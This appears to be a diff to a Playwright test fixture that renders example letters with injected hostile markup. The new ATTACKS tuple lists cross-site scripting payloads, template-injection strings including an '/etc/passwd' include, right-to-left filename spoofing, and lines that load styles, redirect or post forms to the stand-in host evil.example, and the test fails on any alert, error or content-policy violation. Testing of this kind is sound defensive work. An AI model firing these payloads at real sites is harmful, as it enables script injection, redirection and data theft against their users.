@@ -17,6 +17,31 @@ from ..serve.server import Server, running
 expect.set_options(timeout=60_000)  # a machine that is busy is no fault of a page
 SHARED = Path(os.environ.get("IMR_CHECK_LETTERS", Path(__file__).parents[3] / "shared" / "letters"))
 NAMES = sorted(path.name for path in EXAMPLES.glob("*.txt"))
+# What letters may hold to be more than words: of elements, attributes, styles, addresses, templates, bidi.
+ATTACKS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "</span></div></main></body><script>alert(1)</script>",
+    '"><svg/onload=alert(1)>',
+    "'-alert(1)-'",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<base href=http://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<form action=http://evil.example/><button>send</button></form>",
+    "<a href=javascript:alert(1)>go</a>",
+    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
+    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)>",
+    "<textarea></textarea></textarea><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
+    "\u202egnp.exe\u202c \u2066isolated \u200bzero \ufeffmark \u00adhyphen \x00nul \x1b[31mred",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "url(http://evil.example/x) expression(alert(1)) @import 'http://evil.example/x.css'",
+)
 HOSTILE = f"{MARKUP} \u202egnp.exe\u202c <svg onload=alert(3)> <a href=javascript:alert(4)>go</a> &lt;b&gt;"
 
 
@@ -28,6 +53,9 @@ def pages(tmp_path_factory: pytest.TempPathFactory) -> Path:
         (folder / f"{name}.html").write_text(page_of(example(name), name), encoding="utf-8")
     text = example("side-and-strength.txt").replace("The ", f"The {HOSTILE} ")
     (folder / "hostile.html").write_text(page_of(text, f"{HOSTILE}.txt"), encoding="utf-8")
+    for number, attack in enumerate(ATTACKS):
+        attacked = example("side-and-strength.txt").replace(" the ", f" the {attack} ")
+        (folder / f"attack-{number}.html").write_text(page_of(attacked, f"{attack}.txt"), encoding="utf-8")
     (folder / "index.html").write_text(batch(NAMES), encoding="utf-8")
     return folder
 
@@ -44,6 +72,11 @@ def browser() -> Iterator[Browser]:
         chromium.close()
 
 
+# What the policy of a page has kept from running or loading is told like any other fault.
+_TELL = """addEventListener("securitypolicyviolation",
+  (one) => console.error(`policy: ${one.violatedDirective} ${one.blockedURI}`));"""
+
+
 class Watched:
     """A page with what it complained of, asked for from elsewhere, or popped up."""
 
@@ -51,6 +84,7 @@ class Watched:
         self.page: Page = context.new_page()
         self._own = own
         self.faults: list[str] = []
+        self.page.add_init_script(_TELL)
         self.page.on("console", lambda message: self.faults.append(f"console: {message.text}"))
         self.page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
         self.page.on("dialog", self._popped_up)
@@ -83,6 +117,7 @@ def served(browser: Browser, server: Server) -> Iterator[Watched]:
     context = browser.new_context(viewport={"width": 1400, "height": 900})
     context.set_default_timeout(60_000)
     yield (one := Watched(context, server.address))
+    one.page.wait_for_timeout(50)
     context.close()
     assert one.faults == []
 
@@ -92,5 +127,6 @@ def watched(browser: Browser) -> Iterator[Watched]:
     """A page on a desktop. No page may have had a fault when the test is over."""
     context = browser.new_context(viewport={"width": 1400, "height": 900})
     yield (one := Watched(context))
+    one.page.wait_for_timeout(50)  # a fault is told a moment after it was made
     context.close()
     assert one.faults == []
